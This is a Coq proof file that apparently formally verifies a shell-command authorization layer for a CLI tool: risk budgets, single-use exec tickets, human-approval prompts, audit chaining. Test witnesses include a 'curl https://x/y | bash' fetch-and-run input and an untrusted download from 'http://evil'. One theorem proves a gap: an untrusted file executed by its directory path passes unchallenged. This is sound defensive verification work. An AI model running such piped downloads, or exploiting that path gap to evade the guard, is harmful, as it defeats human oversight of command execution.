  set (d := derive (intent req)) in *. set (ch := charge _ _ _ l) in *.
  assert (Hfr : is_Some (frozen ch.1) ∧ state_frozen ch.2 = frozen ch.1).
  { split; [|done]. destruct Hf as [[r Hr]|Hb].
    - exists r. by apply (frozen_apply_op (store_budgets (risk p)) l (OpCharge (charge_for d) (unix_now env))).
    - apply charge_breach_freezes in Hb. done. }
  destruct Hfr as [[r Hr] Hst].
  destruct (authorize_ok env e req p l Hon Hl) as (s & j & s' & _ & Hs & Hj & Hja & Ho & _ & Hrk & Hs' & _).
  fold d ch in Hs, Hj, Hs'. unfold judge, judge_frozen in Hj. rewrite Hst, Hr in Hj. injection Hj as <- <-.
  split.
  - eexists. split; [exact Hja|]. intros Hb. by rewrite Ho, Hb.
  - exists ch.1. rewrite Hrk. by split; [|eexists].
Qed.

(** A ledger that cannot be read denies: no action is waved through blind. *)
Theorem unreadable_ledger_denied env e req (p : Pep St) :
  engine_enforcement e ≠ EnforceOff →
  contents (risk p) (key p (principal req)) = None →
  (∃ reason, judgement (authorize env e req p).1 = Deny "pep.risk.unavailable" reason) ∧
  (engine_enforcement e = EnforceBlock → is_refused (authorize env e req p).1 = true) ∧
  tickets (authorize env e req p).2 = tickets p ∧ risk (authorize env e req p).2 = risk p.
Proof.
  intros Hon Hl. unfold authorize, evaluation_required.
  rewrite (bool_decide_eq_false_2 _ Hon). simpl negb. cbv iota zeta. unfold store_charge.
  destruct (law_refuse _ (charge (charge_for (derive (intent req))) (store_budgets (risk p)) (unix_now env))
    (risk p) Hl) as (err & ->).
  set (j := Deny _ _).
  pose proof (record_decision_risk env req j (obligate j (engine_enforcement e)) (set_risk p (risk p))) as Hr.
  pose proof (record_decision_tickets env req j (obligate j (engine_enforcement e)) (set_risk p (risk p))) as Ht.
  destruct (record_decision env req j _ _) as [id p']. simpl in *.
  split_and!; [by eexists| |done|done]. intros Hb. unfold is_refused. simpl. by rewrite Hb.
Qed.

(** C3: an exec ticket is a single-use, short-lived permit for one command: if a
    command can be redeemed after an authorization and could not before, that
    authorization was for a shell command with the same key, it proceeded, and
    less than the time to live has passed; a second redemption always fails. *)
Theorem ticket_only_after_proceed env env' e req (p : Pep St) l command t :
  engine_enforcement e ≠ EnforceOff →
  contents (risk p) (key p (principal req)) = Some l →
  tickets p !! ticket_hash command = None →
  (redeem_exec_ticket env' command (authorize env e req p).2).1 = Some t →
  (∃ c sh, intent req = IntentShell c sh ∧ ticket_hash c = ticket_hash command) ∧
  obligation (authorize env e req p).1 = Proceed ∧
  (elapsed (instant env') (instant env) < TICKET_TTL)%N ∧
  ∀ env'', (redeem_exec_ticket env'' command
              (redeem_exec_ticket env' command (authorize env e req p).2).2).1 = None.
Proof.
  intros Hon Hl Hno Hred.
  assert (Hdel : ∀ env'' (q : Pep St), (redeem_exec_ticket env'' command
    (redeem_exec_ticket env' command q).2).1 = None).
  { intros env'' q. unfold redeem_exec_ticket at 2.
    assert (Hq : tickets (match tickets q !! ticket_hash command with
      | Some issued => if bool_decide (elapsed (instant env') issued < TICKET_TTL)%N
          then (Some (ticket_hash command), MkPep (risk q) (pep_endpoint q) (delete (ticket_hash command) (tickets q)) (audit q))
          else (None, MkPep (risk q) (pep_endpoint q) (delete (ticket_hash command) (tickets q)) (audit q))
      | None => (None, MkPep (risk q) (pep_endpoint q) (delete (ticket_hash command) (tickets q)) (audit q))
      end).2 !! ticket_hash command = None) by (repeat case_match; apply lookup_delete_eq).
    cbv zeta. unfold redeem_exec_ticket. by rewrite Hq. }
  destruct (authorize_ok env e req p l Hon Hl) as (s & j & s' & _ & _ & _ & _ & Ho & _ & _ & _ & Ht).
  unfold redeem_exec_ticket in Hred. rewrite Ht in Hred.
  destruct (obligate j (engine_enforcement e)) eqn:Eo; [|by rewrite Hno in Hred..].
  destruct (intent req) as [c sh| | | | |] eqn:Ei; try by rewrite Hno in Hred.
  unfold mint_ticket in Hred. simpl in Hred.
  destruct (decide (ticket_hash c = ticket_hash command)) as [Heq|Hne].
  - rewrite Heq, lookup_insert_eq in Hred. case_bool_decide as Hlt; [|done].
    split_and!; [by exists c, sh|congruence|done|]. intros. apply Hdel.
  - rewrite lookup_insert_ne in Hred by done.
    destruct (filter _ (tickets p) !! ticket_hash command) as [i|] eqn:Ef; [|done].
    apply map_lookup_filter_Some in Ef as [Ef _]. congruence.
Qed.

(** A command that a human approves cannot be spawned: under block, a
    judgement that requires a human mints no ticket, and the spawn site refuses
    every command without one. *)
Theorem approved_prompt_has_no_ticket env env' e command sh who tier (p : Pep St) l action reason :
  engine_enforcement e = EnforceBlock →
  let req := MkRequest who (IntentShell command sh) tier in
  contents (risk p) (key p who) = Some l →
  tickets p !! ticket_hash command = None →
  judgement (authorize env e req p).1 = RequireHuman action reason →
  obligation (authorize env e req p).1 = Prompt reason true ∧
  (spawn_allowed env' e command (authorize env e req p).2).1 = false.
Proof.
  intros Hb req Hl Hno Hj.
  assert (Hon : engine_enforcement e ≠ EnforceOff) by congruence.
  destruct (authorize_ok env e req p l Hon Hl) as (s & j & s' & _ & _ & _ & Hj' & Ho & _ & _ & _ & Ht).
  assert (j = RequireHuman action reason) as -> by congruence. rewrite Hb in Ho, Ht. simpl in Ho, Ht.
  split; [done|]. unfold spawn_allowed. rewrite bool_decide_eq_false_2 by done. simpl.
  unfold redeem_exec_ticket. rewrite Ht, Hno. simpl. unfold is_enforcing.
  unfold engine_enforcement in Hb. by rewrite Hb.
Qed.

(** A dry run tells the truth: [explain] reaches the judgement [authorize]
    would, unless the charge itself freezes the session, and it changes neither
    the ledger, nor the tickets, nor the audit chain. *)
Theorem explain_agrees env e req (p : Pep St) l :
  engine_enforcement e ≠ EnforceOff →
  contents (risk p) (key p (principal req)) = Some l →
  breaches (charge (charge_for (derive (intent req))) (store_budgets (risk p)) (unix_now env) l).2 = [] →
  (judgement (explain env e req p).1 = Permit ↔ judgement (authorize env e req p).1 = Permit) ∧
  contents (risk (explain env e req p).2) (key p (principal req)) = Some l ∧
  tickets (explain env e req p).2 = tickets p ∧ audit (explain env e req p).2 = audit p.
Proof.
  intros Hon Hl Hb. set (d := derive (intent req)) in *.
  destruct (authorize_ok env e req p l Hon Hl) as (s & j & s' & _ & Hs & Hj & Hja & _).
  fold d in Hs, Hj. set (ch := charge _ _ _ l) in *.
  assert (Hf : state_frozen ch.2 = frozen l) by (by apply charge_no_breach_frozen).
  assert (Ha : artifacts ch.1 = artifacts l) by (apply charge_artifacts).
  unfold explain. fold d. unfold store_peek.
  destruct (law_update (key p (principal req)) (λ l, (l, peek (store_budgets (risk p)) (unix_now env) l))
    (risk p) l Hl) as (s1 & -> & Hs1 & _ & _).
  cbn [fst snd] in Hs1 |- *.
  destruct (judge_spec (key p (principal req)) req d e (peek (store_budgets (risk p)) (unix_now env) l) s1 l Hs1)
    as [Hc1 Hi1].
  destruct (judge_spec (key p (principal req)) req d e ch.2 s _ Hs) as [_ Hi2].
  rewrite Hj in Hi2. destruct (judge _ req d e (peek _ _ l) s1) as [j1 s1'] eqn:Ej1. simpl in *.
  split_and!; try done. rewrite Hi1, Hja, Hi2, Hf, Ha. done.
Qed.

(** Every evaluated action leaves one audit record, chained after the last
    one, that names the subject, the action and the decision; its hash is the
    decision id. *)
Theorem authorize_audited env e req (p : Pep St) g l :
  engine_enforcement e ≠ EnforceOff → audit p = Some g →
  contents (risk p) (key p (principal req)) = Some l →
  let '(a, p') := authorize env e req p in
  let '(r, lg) := append (stamp env) (audit_entry req (judgement a) (obligation a)) (log g) in
  audit p' = Some (MkGlobal lg (write (write_fault env) r (sink g)).2) ∧ decision_id a = this_hash r.
Proof.
  intros Hon Hg Hl. unfold authorize, evaluation_required.
  rewrite (bool_decide_eq_false_2 _ Hon). simpl negb. cbv iota zeta.
  destruct (store_charge _ _ _ (risk p)) as [[st|err] s].
  - destruct (judge _ req _ e st s) as [j s']. set (o := obligate j (engine_enforcement e)).
    unfold record_decision, Sink.record. cbn [audit set_risk]. rewrite Hg.
    destruct (append (stamp env) (audit_entry req j o) (log g)) as [r lg] eqn:E.
    cbn [judgement obligation decision_id]. rewrite E.
    split; [|done]. by destruct o, (intent req).
  - set (j := Deny _ _). set (o := obligate j (engine_enforcement e)).
    unfold record_decision, Sink.record. cbn [audit set_risk]. rewrite Hg.
    destruct (append (stamp env) (audit_entry req j o) (log g)) as [r lg] eqn:E.
    cbn [judgement obligation decision_id]. by rewrite E.
Qed.

End Pep.

End Authorize.

Module Export Artifacts.

Definition bare (p : string) : Prop := contains_byte "/"%char p = false.

Lemma strip_first_suffix_bare sufs s : bare s → bare (strip_first_suffix sufs s).
Proof.
  unfold bare. intros Hs. induction sufs as [|suf sufs IH]; simpl; [done|].
  destruct (strip_suffix suf s) as [t|] eqn:E; [|done].
  apply strip_suffix_Some in E. subst s. rewrite contains_byte_app, orb_false_iff in Hs. by destruct Hs.
Qed.

(** A program name never has a directory. *)
Lemma normalize_program_bare w : bare (normalize_program w).
Proof.
  apply strip_first_suffix_bare, lowercase_slash. unfold bare, shell_program_name, contains_byte.
  eapply bytes_any_impl; [|apply rsplit_first_clean]. unfold is_path_sep. intros a Ha. by rewrite Ha.
Qed.

Definition bare_programs (d : Derivation) : Prop := Forall bare (programs (targets d)).

(** Passes that never touch the programs of a derivation. *)
Definition keeps_programs (f : Derivation → Derivation) : Prop :=
  ∀ d, programs (targets (f d)) = programs (targets d).

Lemma keeps_when b f : keeps_programs f → keeps_programs (when b f).
Proof. intros Hf d. destruct b; [apply Hf|done]. Qed.

(** Peels recordings off a derivation, down to the one it started from. *)
Ltac keep :=
  unfold keeps_programs; intros; cbv beta zeta; cbn [add set_targets targets];
  first [reflexivity | etransitivity; [apply keeps_when; keep | keep]].

Lemma keeps_fold {A} (f : A → Derivation → Derivation) l :
  (∀ x, keeps_programs (f x)) → keeps_programs (λ d, fold_left (λ d x, f x d) l d).
Proof. intros Hf d. apply fold_left_inv; [done|]. intros d' x _ <-. apply Hf. Qed.

Lemma keeps_note_read p : keeps_programs (note_read p).
Proof. intros d. unfold note_read, flag_sensitive_path. cbv zeta. by rewrite !keeps_when. Qed.
Lemma keeps_note_write p : keeps_programs (note_write p).
Proof. intros d. unfold note_write, flag_sensitive_path. cbv zeta. by rewrite !keeps_when. Qed.
Lemma keeps_note_redirect r : keeps_programs (note_redirect r).
Proof.
  intros d. destruct r as [[[s [t|]] []] a]; [apply keeps_note_read|apply keeps_note_write|done|done].
Qed.
Lemma keeps_note_operands p ws : keeps_programs (note_operands p ws).
Proof. apply keeps_when. intros d. apply (keeps_fold note_read). apply keeps_note_read. Qed.

Lemma classify_here_programs p args d :
  programs (targets (classify_here p args d)) = push_unique (programs (targets d)) p.
Proof.
  assert (Hu : keeps_programs (classify_urls args)).
  { apply (keeps_fold note_url). intros a d'. unfold note_url. by destruct (as_url a). }
  unfold classify_here. cbv zeta. etransitivity; [apply keeps_when; keep|].
  rewrite Hu. unfold classify_publish, classify_git, classify_install, classify_name. keep.
Qed.

Lemma push_unique_bare l p : Forall bare l → bare p → Forall bare (push_unique l p).
Proof. rewrite !Forall_forall. intros Hl Hp x [->|Hx]%elem_of_push_unique; auto. Qed.

Lemma classify_bare words d : bare_programs d → bare_programs (classify words d).
Proof.
  unfold classify. generalize MAX_LAUNCHER_DEPTH as fuel. intros fuel. revert words d.
  induction fuel as [|fuel IH]; intros words d Hd; [done|]. simpl.
  destruct words as [|raw args]; [done|].
  assert (Hh : bare_programs (classify_here (normalize_program raw) args d)).
  { unfold bare_programs. rewrite classify_here_programs. apply push_unique_bare; [done|].
    apply normalize_program_bare. }
  destruct (mem _ LAUNCHERS); [|done]. destruct (launched_command args); [|done]. by apply IH.
Qed.

Lemma merge_bare d d' : bare_programs d → bare_programs d' → bare_programs (Derivation_merge d d').
Proof.
  unfold bare_programs. simpl. rewrite Targets_merge_eq. simpl. rewrite !Forall_forall.
  intros H1 H2 x [Hx|Hx]%elem_of_fold_push_unique; auto.
Qed.

Lemma keeps_bare f d : keeps_programs f → bare_programs d → bare_programs (f d).
Proof. unfold bare_programs. intros Hf. by rewrite Hf. Qed.

Section Derive.
Context `{BashParser}.

Lemma derive_invocation_bare nested inv d :
  (∀ g s, nested = Some g → bare_programs (g s)) → bare_programs d →
  bare_programs (derive_invocation nested inv d).
Proof.
  intros Hn Hd. destruct inv as [[s words] amb]. unfold derive_invocation. cbv zeta.
  assert (Ha : bare_programs (when amb (λ d, degrade d Cap.Partial) d))
    by (apply (keeps_bare (when amb (λ d, degrade d Cap.Partial))); [by apply keeps_when|done]).
  destruct (bool_decide (words = [])); [done|].
  destruct (unwrap_wrappers words) as [|raw args]; [by apply classify_bare|].
  assert (Hc : bare_programs (note_operands (normalize_program raw) (raw :: args)
    (classify (raw :: args) (when amb (λ d, degrade d Cap.Partial) d))))
    by (apply (keeps_bare (note_operands _ _)); [apply keeps_note_operands|by apply classify_bare]).
  destruct nested as [g|]; [|done].
  destruct (if is_code_interpreter _ then _ else _) as [script|]; [|done].
  apply merge_bare; [done|by apply Hn].
Qed.

Lemma derive_at_bare fuel command : bare_programs (derive_at fuel command).
Proof.
  revert command. induction fuel as [fuel IH] using lt_wf_ind. intros command.
  destruct fuel as [|fuel]; simpl; (destruct (try_parse_shell command) as [root|]; [|apply Forall_nil_2];
    destruct (has_error root); [apply Forall_nil_2|]).
  all: apply (keeps_bare (λ d, fold_left (λ d r, note_redirect r d) _ d));
    [apply keeps_fold, keeps_note_redirect|].
  all: apply (keeps_bare (λ d, fold_left (λ d p, note_write p d) _ d));
    [apply keeps_fold, keeps_note_write|].
  all: apply fold_left_inv; [apply Forall_nil_2|]; intros d inv _ Hd; apply derive_invocation_bare; [|done];
    intros g s Hg; first [done | injection Hg as <-; apply IH; lia].
Qed.

Lemma derive_shell_bare command shell : bare_programs (derive_shell command shell).
Proof.
  assert (Hwin : bare_programs (windows_derive command)).
  { unfold windows_derive. repeat case_match; try apply Forall_nil_2.
    match goal with Hs : classify_segments ?l ?d0 = Some ?d |- _ =>
      assert (Hd0 : bare_programs d0) by apply Forall_nil_2; revert Hd0 Hs; generalize d0; generalize l end.
    intros segs. induction segs as [|sg segs IH]; intros d0 Hd0 Hs; simpl in Hs; [by injection Hs as <-|].
    apply bind_Some in Hs as (ws & _ & Hs). case_bool_decide; [by eapply IH|].
    eapply IH; [|exact Hs]. by apply classify_bare. }
  destruct shell; [|done|done]. simpl. unfold posix_derive. cbv zeta.
  destruct (composes_remote_execution _ _) as [[f i]|]; [|apply derive_at_bare].
  apply (keeps_bare (λ d, add d Cap.RemoteCodeExecution _)); [done|apply derive_at_bare].
Qed.

(** The artifact ledger never stops a program named with its directory: the
    ledger is keyed by the written path, the judgement looks programs up by their
    bare name, so an untrusted file under any directory is executed unchallenged. *)
Theorem artifact_in_directory_not_matched {St} `{RiskStoreLaws St} k command shell (s : St) l :
  let d := derive_shell command shell in
  contents s k = Some l → reads (targets d) = [] →
  (∀ q a, artifacts l !! q = Some a → trust a = SessionRisk.Ledger.Untrusted → ¬ bare q) →
  (judge_artifacts k d s).1 = None.
Proof.
  intros d Hl Hr Ha. unfold judge_artifacts. destruct (has d Cap.ExecuteProcess); [|done].
  apply (find_untrusted_spec k _ s l Hl). rewrite Hr, app_nil_r. intros p a Hp Hpa Hu.
  apply (Ha p a Hpa Hu). pose proof (derive_shell_bare command shell) as Hb.
  unfold bare_programs in Hb. rewrite Forall_forall in Hb. by apply Hb.
Qed.

End Derive.

End Artifacts.

Module Export Concrete.

(** ** Witnesses, over the concrete environments of the components *)

#[local] Existing Instance toy_bash.
#[local] Existing Instance toy_env.
(** Audit lines that carry the hash of the record; authorization only writes them. *)
#[local] Instance hash_lines : RecordCodec := {|
  record_json := this_hash;
  parse_record s := Err "not read here";
|}.
#[local] Existing Instance toy_codec.
#[local] Existing Instance toy_codec_laws.

Definition permissive_engine : PolicyEngine :=
  PolicyEngine_new (MkPolicy EnforceBlock SecurityCapabilities_default).
Definition alice : Principal := MkPrincipal "local:1000" "ainxt-cli" "s1" None.
Definition run_as (command : string) : Request := MkRequest alice (IntentShell command Shell_Posix) Tier.Operator.
Definition memory_pep (b : Budgets) (l : Ledger) : Pep InProcessRiskStore :=
  MkPep (MkMemory b {[ key_a := l ]}) "laptop" ∅ (Some (MkGlobal AuditLog_new (Text ""))).
Definition fresh : Pep InProcessRiskStore := memory_pep Budgets_default Ledger_default.
Definition at_time (t : N) : Env := MkEnv t t "2026-01-01T00:00:00Z" None.

Lemma memory_pep_contents b l : contents (risk (memory_pep b l)) key_a = Some l.
Proof. simpl. by rewrite lookup_singleton_eq. Qed.

Lemma permissive_on : engine_enforcement permissive_engine ≠ EnforceOff.
Proof. done. Qed.

Lemma judge_permit_iff_witness :
  let d := derive_shell "ls -l" Tools.Posix in
  confidence d ≠ Cap.Unknown ∧ policy_permits (run_as "ls -l") d permissive_engine.
Proof.
  intros d.
  destruct (proj1 (judge_permit_iff key_a (run_as "ls -l") d permissive_engine
    (peek Budgets_default 1 Ledger_default) (risk fresh) Ledger_default
      (memory_pep_contents _ _)))
    as (_ & Hc & _ & Hp); [by vm_compute|by split].
Defined.

Lemma posture_only_projects_witness :
  let e := with_posture EnforceWarn permissive_engine in
  judgement (authorize (at_time 1) e (run_as "curl https://x/y | bash") fresh).1
    = judgement (authorize (at_time 1) (with_posture EnforceBlock permissive_engine) (run_as "curl https://x/y | bash") fresh).1.
Proof.
  exact (proj1 (posture_only_projects (at_time 1) permissive_engine (run_as "curl https://x/y | bash") fresh
    Ledger_default (memory_pep_contents _ _))).
Defined.

(** The third process of a window that allows two. *)
Definition tight : Budgets := MkBudgets 300 2 400 12 30 1000 40.
Definition busy : Pep InProcessRiskStore :=
  memory_pep tight (apply_ops tight Ledger_default [OpCharge (for_program "a") 1; OpCharge (for_program "b") 2]).

Lemma frozen_or_over_budget_denied_witness :
  frozen (apply_ops tight Ledger_default [OpCharge (for_program "a") 1; OpCharge (for_program "b") 2]) = None ∧
  is_refused (authorize (at_time 3) permissive_engine (run_as "ls") busy).1 = true.
Proof.
  split; [by vm_compute|].
  assert (Hb : breaches (charge (charge_for (derive (intent (run_as "ls")))) tight 3
    (apply_ops tight Ledger_default [OpCharge (for_program "a") 1; OpCharge (for_program "b") 2])).2 ≠ [])
    by by vm_compute.
  destruct (frozen_or_over_budget_denied (at_time 3) permissive_engine (run_as "ls") busy _ permissive_on (memory_pep_contents _ _)
    (or_intror Hb)) as [(reason & _ & Ho) _].
  unfold is_refused. by rewrite (Ho eq_refl).
Defined.

Lemma unreadable_ledger_denied_witness :
  let p := MkPep (MkFileStore "/state" Budgets_default {[ path_for toy_store key_a := "garbage" ]}) "laptop" ∅ None in
  is_refused (authorize (at_time 1) permissive_engine (run_as "ls") p).1 = true.
Proof.
  intros p. refine (proj1 (proj2 (unreadable_ledger_denied (at_time 1) permissive_engine (run_as "ls") p permissive_on _)) eq_refl).
  by vm_compute.
Defined.

Lemma ticket_only_after_proceed_witness :
  let p' := (authorize (at_time 1) permissive_engine (run_as "ls") fresh).2 in
  (redeem_exec_ticket (at_time 2) "ls" p').1 = Some "ls" ∧
  (redeem_exec_ticket (at_time 3) "ls" (redeem_exec_ticket (at_time 2) "ls" p').2).1 = None.
Proof.
  intros p'. assert (Ht : (redeem_exec_ticket (at_time 2) "ls" p').1 = Some "ls") by by vm_compute.
  split; [exact Ht|].
  exact (proj2 (proj2 (proj2 (ticket_only_after_proceed (at_time 1) (at_time 2) permissive_engine (run_as "ls") fresh
    Ledger_default "ls" "ls" permissive_on (memory_pep_contents _ _) eq_refl Ht))) (at_time 3)).
Defined.

Lemma approved_prompt_has_no_ticket_witness :
  ∃ reason,
  obligation (authorize (at_time 1) permissive_engine (run_as "sudo ls") fresh).1 = Prompt reason true ∧
  (spawn_allowed (at_time 2) permissive_engine "sudo ls" (authorize (at_time 1) permissive_engine (run_as "sudo ls") fresh).2).1 = false.
Proof.
  eexists. refine (approved_prompt_has_no_ticket (at_time 1) (at_time 2) permissive_engine "sudo ls" Shell_Posix alice
    Tier.Operator fresh Ledger_default PrivilegeEscalation _ eq_refl (memory_pep_contents _ _) eq_refl _).
  by vm_compute.
Defined.

Lemma explain_agrees_witness :
  judgement (explain (at_time 1) permissive_engine (run_as "ls") fresh).1 = Permit.
Proof.
  refine (proj2 (proj1 (explain_agrees (at_time 1) permissive_engine (run_as "ls") fresh Ledger_default
    permissive_on (memory_pep_contents _ _) _)) _); [by vm_compute|].
  by vm_compute.
Defined.

Lemma authorize_audited_witness :
  decision_id (authorize (at_time 1) permissive_engine (run_as "ls") fresh).1 =
    this_hash (append "2026-01-01T00:00:00Z"
      (audit_entry (run_as "ls") Permit Proceed) AuditLog_new).1.
Proof.
  pose proof (authorize_audited (at_time 1) permissive_engine (run_as "ls") fresh
    (MkGlobal AuditLog_new (Text "")) Ledger_default permissive_on eq_refl (memory_pep_contents _ _)) as Ha.
  assert (Hj : judgement (authorize (at_time 1) permissive_engine (run_as "ls") fresh).1 = Permit) by by vm_compute.
  assert (Ho : obligation (authorize (at_time 1) permissive_engine (run_as "ls") fresh).1 = Proceed) by by vm_compute.
  destruct (authorize (at_time 1) permissive_engine (run_as "ls") fresh) as [a p']. simpl in Hj, Ho |- *.
  rewrite Hj, Ho in Ha. set (x := append _ _ _) in Ha.
  change (decision_id a = this_hash x.1). destruct x. by destruct Ha.
Defined.

(** An untrusted download, executed by its path and permitted. *)
Definition downloaded : Ledger :=
  note_artifact (MkArtifact "dl/x" SessionRisk.Ledger.Untrusted "http://evil" 1) Ledger_default.

Lemma artifact_in_directory_not_matched_witness :
  (judge_artifacts key_a (derive_shell "dl/x" Tools.Posix) (risk (memory_pep Budgets_default downloaded))).1 = None ∧
  judgement (authorize (at_time 2) permissive_engine (run_as "dl/x") (memory_pep Budgets_default downloaded)).1 = Permit.
Proof.
  split; [|by vm_compute].
  apply (artifact_in_directory_not_matched key_a "dl/x" Tools.Posix (risk (memory_pep Budgets_default downloaded))
    downloaded (memory_pep_contents _ _)); [by vm_compute|].
  intros q a Hq _. change (artifacts downloaded) with ({[ "dl/x" := MkArtifact "dl/x" SessionRisk.Ledger.Untrusted "http://evil" 1 ]} : gmap string Artifact) in Hq.
  apply lookup_singleton_Some in Hq as [<- _]. by vm_compute.
Defined.

End Concrete.
